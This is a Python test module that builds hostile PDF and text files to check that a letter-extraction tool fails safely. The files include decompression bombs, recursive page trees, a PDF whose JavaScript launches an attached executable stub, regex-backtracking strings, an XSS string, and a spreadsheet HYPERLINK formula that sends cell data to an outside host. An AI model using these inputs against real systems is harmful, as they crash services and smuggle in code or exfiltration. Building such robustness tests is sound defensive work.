"""Hostile files: how each is made, why it is there, and what must come out.

``gives`` is ``letter``, or the codes of failures that are right for it. Files that may be stopped by more
than one limit, whichever comes first on the machine, name them all.
"""

import io
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.conftest import CORPUS
from tests.hostile.pdf import FONT, bomb, one_page, pdf, printed, stream
from tests.letters import LETTER

LETTER_PDF = CORPUS / "letters" / "A" / "CM16-9001001.pdf"
LIMITS = ("timeout", "out_of_memory", "too_large")


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[], bytes]
    why: str
    gives: tuple[str, ...]
    slow: bool = False
    """Only in ``make torture``: it costs a worker or seconds."""


def bomb_of_digits():
    return one_page(bomb(b"0" * 1_000_000, 1_500))


def bomb_of_text():
    return one_page(bomb(b"BT /F 1 Tf " + b"(aaaaaaaaaa) Tj " * 50_000 + b"ET ", 400))


def many_pages():
    kids = b" ".join(b"%d 0 R" % n for n in range(6, 100_006))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count 100000 /Kids [" + kids + b"] >>",
            4: stream(b""),
            **dict.fromkeys(range(6, 100_006), page),
        }
    )


def many_pages_said():
    """One page that claims to be two billion."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        }
    )


def page_tree_in_itself():
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] >>"})


def page_tree_deep():
    nodes = {n: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] /Parent %d 0 R >>" % (n + 1, n - 1) for n in range(2, 60_000)}
    nodes[60_000] = b"<< /Type /Page /MediaBox [0 0 9 9] /Parent 59999 0 R >>"
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **nodes})


def stream_measured_by_itself():
    return one_page(stream(printed(LETTER), length=b"4 0 R"))


def form_that_draws_itself():
    form = stream(
        b"/X Do /X Do", extra=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>", more={6: form})


def forms_that_double():
    """Each of 30 forms draws the next one twice: a billion drawings."""
    forms = {
        n: stream(
            b"/X Do /X Do",
            extra=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % (n + 1),
        )
        for n in range(6, 36)
    }
    forms[36] = stream(b"BT /F 9 Tf (a) Tj ET", extra=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>", more=forms)


def length_beyond_the_file():
    return one_page(stream(printed(LETTER), length=b"999999999999"))


def xref_of_nonsense():
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
            4: stream(printed(LETTER)),
            5: FONT,
        },
        xref=b"xref\n0 6\n" + b"9999999999 00000 n \n" * 6,
    )


def xref_that_leads_back_to_itself():
    return pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}, trailer=b"/Prev 130"
    ).replace(b"/Prev 130", b"/Prev 9  ")


def letter_cut_at_its_end():
    data = LETTER_PDF.read_bytes()
    return data[: data.rindex(b"startxref")]


def script_and_attachment():
    writer = PdfWriter(clone_from=PdfReader(LETTER_PDF))
    script = "app.alert('run'); this.exportDataObject({cName: 'run.exe', nLaunch: 2});"
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    writer.add_attachment("run.exe", b"MZ" + b"\0" * 1000)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def absurd_font():
    font = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Absurd /FirstChar 32 /LastChar 126 /Widths ["
        + b"99999999999999999999 " * 95
        + b"] /FontDescriptor << /Type /FontDescriptor /FontName /Absurd /Flags 32 /Ascent 1e38 /Descent -1e38"
        b" /FontBBox [-2147483648 -2147483648 2147483647 2147483647] /ItalicAngle 1e30 /CapHeight 1e38 /StemV -1 >> >>"
    )
    return one_page(stream(printed(LETTER, font=b"G")), more={5: font}).replace(b"/F 5 0 R", b"/G 5 0 R")


def absurd_size():
    return one_page(stream(printed(LETTER, size=1e30)))


def page_of_ten_million_characters():
    return one_page(bomb(b"BT /F 1 Tf 1 TL 0 700 Td\n" + (b"(" + b"abcd " * 20 + b") Tj T*\n") * 1_000 + b"ET ", 100))


def page_without_end_and_an_image():
    image = stream(
        b"\0" * 8,
        extra=b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1",
    )
    return one_page(
        stream(b"9 0 0 9 0 0 cm /I Do"), box=b"[0 0 1e9 1e9]", resources=b"/XObject << /I 6 0 R >>", more={6: image}
    )


def image_of_three_gigapixels():
    side = 57_000
    rows = zlib.compressobj(9)
    data = b"".join([rows.compress(b"\0" * 1_000_000) for _ in range(side * side // 8_000_000)] + [rows.flush()])
    image = stream(
        data,
        extra=b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1"
        b" /Filter /FlateDecode" % (side, side),
    )
    return one_page(stream(b"612 0 0 792 0 0 cm /I Do"), resources=b"/XObject << /I 6 0 R >>", more={6: image})


def brackets():
    return one_page(stream(b"[" * 2_000_000))


def dictionaries():
    return pdf({1: b"<< /A " * 100_000 + b">>" * 100_000, 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})


def long_name():
    return one_page(stream(b"/" + b"N" * 5_000_000 + b" Do " + printed(LETTER)))


def text(change):
    return lambda: change(LETTER).encode("utf-8", "surrogatepass")


def inside(words, where="slid"):
    return text(lambda letter: letter.replace(where, f"{where} {words}"))


FORMULA = '=HYPERLINK("http://example.org?"&A1,"x")'
BIDI = "\u202eabc\u202c\u2066x\u2069\u200b\ufeff\u0007\u001b[31m\u0085\u2028"
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>&amp;"

HOSTILE = [
    Hostile("bomb.pdf", bomb_of_digits, "a page of 8 KB that unpacks to 1.5 GB, packed twice", (*LIMITS, "damaged", "no_text")),
    Hostile("bomb_of_text.pdf", bomb_of_text, "the same with 200 million characters to print", (*LIMITS, "damaged", "no_text"), slow=True),
    Hostile("many_pages.pdf", many_pages, "100,000 pages", ("too_large",), slow=True),
    Hostile("many_pages_said.pdf", many_pages_said, "a count of pages that is a lie", ("too_large", "damaged", "no_text")),
    Hostile("page_tree_in_itself.pdf", page_tree_in_itself, "a page tree whose children are itself", ("damaged", "no_text")),
    Hostile("page_tree_deep.pdf", page_tree_deep, "a page tree 60,000 deep", ("damaged", "no_text", "crashed"), slow=True),
    Hostile("stream_measured_by_itself.pdf", stream_measured_by_itself, "a stream whose length is the stream", ("letter", "no_text", "damaged")),
    Hostile("form_that_draws_itself.pdf", form_that_draws_itself, "a form that draws itself", ("no_text", *LIMITS), slow=True),
    Hostile("forms_that_double.pdf", forms_that_double, "30 forms, each drawing the next one twice", ("timeout", "no_text", "too_large", "out_of_memory"), slow=True),
    Hostile("length_beyond_the_file.pdf", length_beyond_the_file, "a stream longer than the file", ("letter", "no_text", "damaged")),
    Hostile("xref_of_nonsense.pdf", xref_of_nonsense, "a table of objects that points nowhere: readers mend it", ("letter",)),
    Hostile("xref_in_itself.pdf", xref_that_leads_back_to_itself, "a table of objects whose forerunner is itself", ("damaged", "no_text")),
    Hostile("cut_at_its_end.pdf", letter_cut_at_its_end, "a letter without its last lines: readers mend it", ("letter",)),
    Hostile("script_and_attachment.pdf", script_and_attachment, "JavaScript and a program attached: never run, the letter is read", ("letter",)),
    Hostile("absurd_font.pdf", absurd_font, "a font of endless widths and heights", ("letter", "no_text", "not_a_letter")),
    Hostile("absurd_size.pdf", absurd_size, "letters of 1e30 points", ("letter", "no_text", "not_a_letter")),
    Hostile("ten_million_characters.pdf", page_of_ten_million_characters, "a page of 10 million characters", ("too_large", "timeout", "out_of_memory")),
    Hostile("page_without_end.pdf", page_without_end_and_an_image, "a scanned page of a billion points", ("too_large", "no_text")),
    Hostile("three_gigapixels.pdf", image_of_three_gigapixels, "a scan of 3 gigapixels in 400 KB", ("no_text", *LIMITS), slow=True),
    Hostile("brackets.pdf", brackets, "two million brackets that never close", ("no_text", "damaged", "crashed")),
    Hostile("dictionaries.pdf", dictionaries, "100,000 dictionaries in each other", ("damaged", "no_text", "crashed")),
    Hostile("long_name.pdf", long_name, "a name of 5 MB, then a letter", ("letter", "no_text")),
    Hostile("backtrack_spaces.txt", inside(" " * 50_000), "spaces that patterns may cross in many ways", ("letter",)),
    Hostile("backtrack_digits.txt", inside("1/" * 30_000), "dates without an end", ("letter", "pattern_timeout")),
    Hostile("backtrack_words.txt", inside("pain in the left " * 3_000), "body parts without an end", ("letter", "pattern_timeout"), slow=True),
    Hostile("backtrack_item.txt", inside("x 4 weeks 2 times per week " * 2_000, "twice weekly"), "visits without an end", ("letter", "pattern_timeout", "too_large"), slow=True),
    Hostile("backtrack_brackets.txt", inside("(" * 20_000, "Norco"), "brackets that never close", ("letter", "pattern_timeout", "timeout"), slow=True),
    Hostile("upheld.txt", text(lambda t: t + ": Upheld\n" * 5_000), "decisions without items", ("letter", "pattern_timeout")),
    Hostile("formula.txt", text(lambda t: t.replace("Norco", FORMULA)), "a heading that a spreadsheet would run", ("letter",)),
    Hostile("bidi.txt", inside(BIDI), "control and bidirectional characters", ("letter",)),
    Hostile("html.txt", inside(HTML, "Function rose"), "HTML in a rationale", ("letter",)),
    Hostile("surrogate.txt", inside("\ud800\udfff"), "bytes that are no UTF-8 though they look like it", ("letter",)),
    Hostile("nul.txt", inside("\0"), "a NUL: no text file", ("not_a_pdf",)),
]  # fmt: skip
